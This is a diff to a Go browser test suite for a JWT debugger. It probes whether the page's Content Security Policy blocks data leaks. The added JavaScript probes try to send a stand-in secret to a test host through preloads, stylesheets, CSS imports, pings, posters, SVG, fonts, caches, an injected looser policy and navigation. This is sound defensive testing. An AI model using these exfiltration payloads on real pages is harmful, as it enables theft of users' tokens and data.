@@ -13,31 +13,40 @@ import (
 	"jwtdebugger/web/bundle"
 )
 
-// kept is everything a page could leave behind.
-const kept = `(async () => ({
-	cookies: document.cookie,
-	local: JSON.stringify({...localStorage}),
-	session: JSON.stringify({...sessionStorage}),
-	databases: JSON.stringify(await indexedDB.databases()),
-	caches: JSON.stringify(await caches.keys()),
-	workers: String((await navigator.serviceWorker.getRegistrations()).length),
-	files: String(await (async () => { let n = 0; for await (const f of (await navigator.storage.getDirectory()).keys()) n++; return n })()),
-	state: JSON.stringify(history.state),
-	name: window.name,
-	address: location.pathname + location.search + location.hash,
-}))()`
+// kept is everything a page could leave behind. A page on a disk has not all of it.
+const kept = `(async () => {
+	const told = {};
+	for (const [what, ask] of Object.entries({
+		cookies: () => document.cookie,
+		local: () => JSON.stringify({...localStorage}),
+		session: () => JSON.stringify({...sessionStorage}),
+		databases: async () => JSON.stringify(await indexedDB.databases()),
+		caches: async () => JSON.stringify(await caches.keys()),
+		workers: async () => String((await navigator.serviceWorker.getRegistrations()).length),
+		files: async () => { let n = 0; for await (const f of (await navigator.storage.getDirectory()).keys()) n++; return String(n) },
+		state: () => JSON.stringify(history.state),
+		name: () => window.name,
+		address: () => location.search + location.hash,
+	})) {
+		try { told[what] = await ask() } catch (e) { if (location.protocol === "file:" && e.name.endsWith("Error")) continue; throw e }
+	}
+	return told;
+})()`
 
 var nothingKept = map[string]string{
 	"cookies": "", "local": "{}", "session": "{}", "databases": "[]", "caches": "[]",
-	"workers": "0", "files": "0", "state": "null", "name": "", "address": "/",
+	"workers": "0", "files": "0", "state": "null", "name": "", "address": "",
 }
 
 func wantNothingKept(t *testing.T, page *drive.Tab, when string) {
 	t.Helper()
 	got := drive.Eval[map[string]string](page, kept)
-	for what, want := range nothingKept {
-		if got[what] != want {
-			t.Errorf("%s the page keeps %s: %q", when, what, got[what])
+	if len(got) < 6 {
+		t.Errorf("%s only %v was looked at.", when, got)
+	}
+	for what, is := range got {
+		if is != nothingKept[what] {
+			t.Errorf("%s the page keeps %s: %q", when, what, is)
 		}
 	}
 }
@@ -136,6 +145,10 @@ var probes = []probe{
 	{"import() of data", `import("data:text/javascript,globalThis.ran=1").then(() => "ran", () => "refused")`},
 	{"a worker", `(() => { try { new Worker(home + "/probe-worker.js"); return "started"; } catch { return "refused"; } })()`},
 	{"a worker of a blob", `(() => { try { new Worker(URL.createObjectURL(new Blob(["fetch('/probe-blob')"]))); return "started"; } catch { return "refused"; } })()`},
+	{"a shared worker", `(() => { try { new SharedWorker(home + "/probe-shared.js"); return "started"; } catch { return "refused"; } })()`},
+	{"a cache that fetches", `caches.open("probe").then((c) => c.add(home + "/probe-cache?" + stolen)).then(() => "sent", () => "refused").finally(() => caches.delete("probe"))`},
+	{"WebTransport", `(() => { try { return new WebTransport("https://localhost:9/").ready.then(() => "open", () => "refused"); } catch { return "refused"; } })()`},
+	{"a font", `new FontFace("probe", "url(" + home + "/probe-font)").load().then(() => "sent", () => "refused")`},
 	{"a policy by the page's name", `(() => { try { trustedTypes.createPolicy("jwtdebugger", {createScriptURL: (s) => s}); return "made"; } catch { return "refused"; } })()`},
 	{"a policy by another name", `(() => { try { trustedTypes.createPolicy("other", {createScriptURL: (s) => s}); return "made"; } catch { return "refused"; } })()`},
 }
@@ -169,7 +182,36 @@ var pageProbes = []probe{
 	{"a beacon elsewhere", `(() => { navigator.sendBeacon(elsewhere + "/probe-beacon", stolen); return "refused"; })()`},
 	{"a base", `(() => { const b = document.createElement("base"); b.href = "https://other.example/"; document.head.append(b); const moved = !document.baseURI.startsWith(location.origin); b.remove(); return moved ? "moved" : "refused"; })()`},
 	{"sound", `new Promise((done) => { const a = new Audio(home + "/probe-sound"); a.onerror = () => done("refused"); a.oncanplay = () => done("sent"); })`},
-	{"a font", `new FontFace("probe", "url(/probe-font)").load().then(() => "sent", () => "refused")`},
+	// A script that is named by its hash may come from anywhere, and what is only preloaded need
+	// not be what its hash says: until the page has shut itself off (loop/lock.js), this goes out.
+	{"a preload that names the page's script", linked("{rel: 'preload', as: 'script', integrity: hash}", "/probe-preload-script")},
+	{"the same, with cors", linked("{rel: 'preload', as: 'script', integrity: hash, crossOrigin: 'anonymous'}", "/probe-preload-cors")},
+	{"a module preload that names it", linked("{rel: 'modulepreload', integrity: hash}", "/probe-preload-module")},
+	{"a script that names it", `(() => { try { const s = document.createElement("script"); s.integrity = hash; s.src = elsewhere + "/probe-named.js"; document.head.append(s); return "added"; } catch { return "refused"; } })()`},
+	{"a style sheet", linked("{rel: 'stylesheet'}", "/probe-sheet.css")},
+	{"a preload of a style sheet", linked("{rel: 'preload', as: 'style'}", "/probe-preload.css")},
+	{"a prefetch", linked("{rel: 'prefetch'}", "/probe-prefetch")},
+	{"a style sheet that a rule imports", `(() => { try { document.styleSheets[0].insertRule("@import url(" + home + "/probe-import.css?" + stolen + ")", 0); } catch {} return "refused"; })()`},
+	{"a style sheet made by a script", `(() => {
+		const s = new CSSStyleSheet(); s.replaceSync("footer { background: url(" + home + "/probe-adopted?" + stolen + ") } @font-face { font-family: p; src: url(" + home + "/probe-face) } footer { font-family: p }");
+		document.adoptedStyleSheets.push(s); document.body.offsetWidth; document.adoptedStyleSheets.pop(); return "refused";
+	})()`},
+	{"an icon", linked("{rel: 'icon'}", "/probe-icon")},
+	{"a web manifest", linked("{rel: 'manifest'}", "/probe-manifest")},
+	{"a ping", `(() => { const a = document.createElement("a"); a.href = "#"; a.ping = home + "/probe-ping?" + stolen; document.body.append(a); a.click(); a.remove(); history.replaceState(null, "", location.href.split("#")[0]); return "refused"; })()`},
+	{"an object", `(() => { try { const o = document.createElement("object"); o.data = home + "/probe-object"; document.body.append(o); o.remove(); return "added"; } catch { return "refused"; } })()`},
+	{"an embed", `(() => { try { const o = document.createElement("embed"); o.src = home + "/probe-embed"; document.body.append(o); o.remove(); return "added"; } catch { return "refused"; } })()`},
+	{"a picture before a film", `(() => { const v = document.createElement("video"); v.poster = home + "/probe-poster?" + stolen; document.body.append(v); v.offsetWidth; v.remove(); return "refused"; })()`},
+	{"a drawing from elsewhere", `(() => { const s = document.createElementNS("http://www.w3.org/2000/svg", "svg"); for (const [name, what] of [["use", "#a"], ["image", ""]]) { const u = document.createElementNS(s.namespaceURI, name); u.setAttribute("href", home + "/probe-drawing?" + stolen + what); s.append(u); } document.body.append(s); s.getBoundingClientRect(); s.remove(); return "refused"; })()`},
+	{"a frame with text", `(() => { try { document.createElement("iframe").srcdoc = "<script>top.ran = 1</script>"; return "written"; } catch { return "refused"; } })()`},
+	{"markup by a parser", `(() => { try { new DOMParser().parseFromString("<b>x</b>", "text/html"); return "parsed"; } catch { return "refused"; } })()`},
+	{"markup by a range", `(() => { try { document.createRange().createContextualFragment("<b>x</b>"); return "parsed"; } catch { return "refused"; } })()`},
+	{"an inline script", `(() => { try { const s = document.createElement("script"); s.append("globalThis.ranInline = 1"); document.head.append(s); s.remove(); } catch {} return globalThis.ranInline ? "ran" : "refused"; })()`},
+	{"an import map", `(() => { try { const s = document.createElement("script"); s.type = "importmap"; s.textContent = "{}"; document.head.append(s); return "added"; } catch { return "refused"; } })()`},
+	{"rules of speculation", `(() => { try { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = "{}"; document.head.append(s); return "added"; } catch { return "refused"; } })()`},
+	{"a looser policy", `fetch(home + "/probe-looser").catch(() => { const m = document.createElement("meta"); m.httpEquiv = "Content-Security-Policy"; m.content = "connect-src *"; document.head.append(m); return fetch(home + "/probe-looser") }).then(() => "sent", () => "refused")`},
+	{"the lock taken away", `(() => { document.getElementById("lock").remove(); return fetch(home + "/probe-unlocked").then(() => "sent", () => "refused"); })()`},
+	{"a preload after that", linked("{rel: 'preload', as: 'script', integrity: hash}", "/probe-preload-late")},
 	{"a service worker", `navigator.serviceWorker.register(home + "/probe-service.js").then(() => "registered", () => "refused")`},
 }
 
@@ -178,11 +220,17 @@ var workerProbes = []probe{
 	{"importScripts of a blob", `(() => { try { importScripts(URL.createObjectURL(new Blob(["self.ran = 1"]))); return "ran"; } catch { return "refused"; } })()`},
 }
 
-// A script in the page may still ask the page's own host for these, of which style-src and
-// worker-src say 'self'. In the single file nobody may be asked for anything.
-var singleProbes = []probe{
-	{"a style sheet", `new Promise((done) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onerror = () => done("refused"); l.onload = () => done("loaded"); l.href = home + "/probe-sheet.css"; document.head.append(l); })`},
-	{"a prefetch", `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = home + "/probe-prefetch"; document.head.append(l); return "refused"; })()`},
+// linked is a probe by a link element with these members, at home and elsewhere. Whether the
+// browser tells of a refusal or not, the logs do.
+func linked(members, path string) string {
+	return `Promise.all([home, elsewhere].map((host) => new Promise((done) => {
+		const l = document.createElement("link");
+		l.onerror = () => done("refused"); l.onload = () => done("loaded");
+		Object.assign(l, ` + members + `, {href: host + "` + path + `?" + stolen});
+		document.head.append(l);
+		// An answer would come at once, before what is asked for behind it.
+		if (!["stylesheet", "preload", "modulepreload"].includes(l.rel)) done("refused");
+	}))).then((came) => came.includes("loaded") ? "loaded" : "refused")`
 }
 
 // hosts are the two ways to be served: with the headers that ship, and as files on a host
@@ -215,7 +263,6 @@ func TestPolicyHolds(t *testing.T) {
 			inPage := append(append([]probe{}, probes...), pageProbes...)
 			workers := 1
 			if place.single {
-				inPage = append(inPage, singleProbes...)
 				workers = 2 // its loader is made of a blob, too
 			}
 			page.WaitWorker(workers)
@@ -228,7 +275,7 @@ func TestPolicyHolds(t *testing.T) {
 			}
 			elsewhere := drive.Serve(t, http.NotFoundHandler())
 			loot := `globalThis.stolen = "secret"; globalThis.home = ` + quoted(site.URL) + `; globalThis.elsewhere = ` + quoted(elsewhere.URL) + `; 1`
-			drive.Eval[any](page, loot)
+			drive.Eval[any](page, loot+`; globalThis.hash = /'(sha256-[^']+)' 'wasm/.exec(document.querySelector("meta[http-equiv]").content)[1]; 1`)
 			drive.EvalIn[any](engine, loot)
 			for _, p := range inPage {
 				if got := drive.Eval[string](page, p.expression); got != "refused" {
@@ -252,7 +299,26 @@ func TestPolicyHolds(t *testing.T) {
 			page.PasteKey(secret)
 			page.PasteToken(hs256(t, `{"a":1}`))
 			page.WantVerdict(verdict{"signature": "valid"})
+
+			// What no policy stops, and SECURITY.md says so: the page goes somewhere else.
+			if place.address(t) == "/" {
+				page.Expect("/left")
+				drive.Eval[any](page, `location.href = elsewhere + "/left?" + stolen; 1`)
+				await(t, "the page goes elsewhere", func() bool {
+					return slices.ContainsFunc(elsewhere.Log(), func(r drive.Request) bool { return r.Path == "/left?secret" })
+				})
+			}
 		})
+	}
+}
+
+// await waits until something holds outside of the page, where nothing tells that it changed.
+func await(t *testing.T, what string, holds func() bool) {
+	t.Helper()
+	for end := time.Now().Add(drive.Patience); !holds(); time.Sleep(20 * time.Millisecond) {
+		if time.Now().After(end) {
+			t.Fatalf("Waited in vain for this: %s.", what)
+		}
 	}
 }
 
